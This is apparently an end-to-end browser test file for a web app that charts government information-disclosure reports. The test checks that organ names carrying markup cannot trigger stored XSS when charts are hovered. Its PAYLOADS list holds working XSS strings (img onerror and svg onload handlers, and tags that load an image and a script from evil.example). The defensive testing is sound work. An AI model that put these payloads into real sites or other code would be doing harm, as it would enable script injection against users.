/**
 * Stored XSS through report text, in a real browser: organs whose names (as a report title
 * would give them) carry markup are stored straight through the ingest's `storeReport` (past
 * any refusal at ingest), every page that draws a chart is opened and every chart hovered
 * point by point. No dialog may open, no payload may run (`window.__xss`), no Content-Security-
 * Policy violation may happen (the policy is the second wall, not the first) and no request
 * may leave for another host.
 */
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeReport } from '../../server/ingest/store.ts';
import { record } from '../support/records.ts';
import { CHROMIUM, launch, newPage } from './support/browser.ts';
import { ensureWebBuilt } from '../../scripts/lib/web-build.ts';
import { startServer } from './support/server.ts';
import type { E2eServer } from './support/server.ts';

const COUNTY = '青禾县';
/** Organ names as a hostile title would print them (township and street names, so every chart shows them). */
const PAYLOADS = [
  `${COUNTY}<img/src/onerror=window.__xss=1;alert(1)>乡人民政府`,
  `${COUNTY}<svg/onload=window.__xss=2;alert(2)>镇人民政府`,
  `${COUNTY}<img/src=//evil.example/p.png>乡人民政府`,
  `${COUNTY}"><script/src=//evil.example/s.js></script>街道办事处`,
];
const YEARS = [2024, 2025];
/** Text that only the payloads hold; seen in a tooltip, it proves the tooltip showed them (as text). */
const MARKERS = ['onerror=window.__xss', 'onload=window.__xss', 'evil.example/p.png', 'evil.example/s.js'];

const hasChromium = existsSync(CHROMIUM);

/** Unbalanced requests (5 new, none processed or carried), so every payload organ has flags too. */
function hostileRecord(organ: string, year: number) {
  return record(organ, year, {
    'requests.new.natural_person': 5 + year % 3, 'requests.new.total': 5 + year % 3,
    'requests.granted.natural_person': 1, 'requests.granted.total': 1,
    'requests.processed_total.natural_person': 1, 'requests.processed_total.total': 1,
  });
}

describe.skipIf(!hasChromium)('report text with markup in a real browser', () => {
  let server: E2eServer;
  let browser: Browser;
  let context: BrowserContext;
  const dialogs: string[] = [];
  const outside: string[] = [];

  beforeAll(async () => {
    ensureWebBuilt();
    server = await startServer({
      seeds: false,
      async prepare(db) {
        for (const organ of PAYLOADS) {
          for (const year of YEARS) {
            const rec = hostileRecord(organ, year);
            const text = `${organ}${year}年政府信息公开工作年度报告\n`;
            const bytes = Buffer.from(`${text}\n${JSON.stringify(rec.requests.new)}`);
            const stored = await storeReport(db, {
              fileName: `hostile-${year}.txt`, bytes, sha256: createHash('sha256').update(bytes).digest('hex'), via: 'seed', county: COUNTY,
              document: { format: 'txt', extraction: 'utf-8', text, exactCells: false }, record: rec, review: [],
            });
            expect(stored.reportId, organ).not.toBeNull();
          }
        }
      },
    });
    browser = await launch();
    context = await browser.newContext({ viewport: { width: 1366, height: 768 }, locale: 'zh-CN' });
    // Runs before the app, outside its CSP: records policy violations and tooltip text shown.
    // (A string: the tests are type-checked without the DOM library.)
    await context.addInitScript({ content: `(() => {
      const markers = ${JSON.stringify(MARKERS)};
      window.__violations = [];
      window.__tooltips = [];
      document.addEventListener('securitypolicyviolation', (e) => { window.__violations.push(e.violatedDirective + ' ' + e.blockedURI); });
      new MutationObserver((records) => {
        for (const r of records) {
          const el = r.target.nodeType === 1 ? r.target : r.target.parentElement;
          if (!el || !el.closest('[data-testid=chart]')) continue;
          const text = el.textContent || '';
          if (markers.some((m) => text.includes(m))) window.__tooltips.push(text);
        }
      }).observe(document, { subtree: true, childList: true, characterData: true });
    })();` });
    const origin = new URL(server.url);
    context.on('request', (req) => {
      const url = new URL(req.url());
      if (url.protocol === 'data:' || url.protocol === 'blob:') return;
      if (url.hostname !== origin.hostname && url.hostname !== 'localhost') outside.push(req.url());
    });
    context.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /**
   * Hover every chart of the page: the real mouse on a coarse grid, then mouse events dispatched
   * inside the page on a grid fine enough for every heatmap row (22–24 px) and every bar (one
   * round trip per point would take minutes). ECharts reads both the same way.
   */
  async function hoverCharts(page: Page): Promise<number> {
    const charts = page.locator('[data-testid=chart]:visible');
    await expect.poll(() => charts.count(), { timeout: 15_000 }).toBeGreaterThan(0);
    const n = await charts.count();
    for (let i = 0; i < n; i++) {
      const chart = charts.nth(i);
      await chart.scrollIntoViewIfNeeded();
      const box = await chart.boundingBox();
      if (!box) continue;
      for (let y = box.y + 6; y < box.y + Math.min(box.height, 700); y += box.height / 6) {
        for (let x = box.x + 6; x < box.x + box.width; x += box.width / 8) await page.mouse.move(x, y);
      }
      await chart.evaluate(`(async (el) => {
        const canvas = el.querySelector('canvas');
        const r = canvas.getBoundingClientRect();
        const move = (x, y) => canvas.dispatchEvent(new MouseEvent('mousemove', { clientX: x, clientY: y, bubbles: true, cancelable: true, view: window }));
        for (let y = r.top + 3; y < r.bottom; y += 8) {
          for (let x = r.left + 3; x < r.right; x += Math.max(8, r.width / 60)) {
            move(x, y);
            await new Promise((done) => setTimeout(done, 0));
          }
        }
        canvas.dispatchEvent(new MouseEvent('mouseout', { bubbles: true, view: window }));
      })`);
      await page.mouse.move(0, 0);
    }
    return n;
  }

  it('stores the hostile names as they are (the API gives them back as data)', async () => {
    const organs = (await (await fetch(`${server.url}/api/organs?limit=500`)).json()) as { rows: { id: number; name: string }[] };
    for (const marker of MARKERS) expect(organs.rows.some((o) => o.name.includes(marker)), marker).toBe(true);
  });

  it('hovering every chart of every chart page runs no payload, opens no dialog and sends nothing elsewhere', async () => {
    const counties = (await (await fetch(`${server.url}/api/counties`)).json()) as { rows: { id: number; name: string }[] };
    const county = counties.rows.find((c) => c.name === COUNTY)!.id;
    const organs = (await (await fetch(`${server.url}/api/organs?limit=500`)).json()) as { rows: { id: number; name: string }[] };
    const hostileOrgan = organs.rows.find((o) => o.name.includes(MARKERS[0]!))!.id;
    const scope = `county=${county}&year=${YEARS[YEARS.length - 1]}`;
    const pages: [string, string][] = [
      [`/?${scope}`, '[data-testid=cards]'],
      [`/compare?county=${county}&years=${YEARS.join(',')}`, '[data-testid=compare-table]'],
      [`/compare?county=${county}&years=${YEARS.join(',')}&view=heatmap`, '[data-testid=compare-table]'],
      [`/compliance?${scope}`, '[data-testid=coverage-table]'],
      [`/reports?organ=${hostileOrgan}`, '[data-testid=organ-head]'],
    ];
    const seen: Record<string, number> = {};
    for (const [path, ready] of pages) {
      const { page, errors } = await newPage(context);
      await page.goto(server.url + path);
      await page.waitForSelector(ready, { timeout: 15_000 });
      await page.waitForLoadState('networkidle');
      const charts = await hoverCharts(page);
      const state = await page.evaluate('({ xss: window.__xss ?? null, violations: window.__violations, tooltips: window.__tooltips.length })') as {
        xss: unknown; violations: string[]; tooltips: number;
      };
      seen[path] = state.tooltips;
      expect(charts, path).toBeGreaterThan(0);
      expect(state.xss, `${path}: a payload ran`).toBeNull();
      expect(state.violations, `${path}: CSP violations`).toEqual([]);
      expect(dialogs, `${path}: dialogs`).toEqual([]);
      expect(outside, `${path}: requests to other hosts`).toEqual([]);
      expect(errors, `${path}: ${errors.join('\n')}`).toEqual([]);
      await page.close();
    }
    // The hover did reach the hostile names: the heatmaps (the reported pages) showed them as text.
    expect(seen[pages[2]![0]], 'compare heatmap tooltips with the names').toBeGreaterThan(0);
    expect(seen[pages[3]![0]], 'compliance tooltips with the names').toBeGreaterThan(0);
  }, 300_000);
});
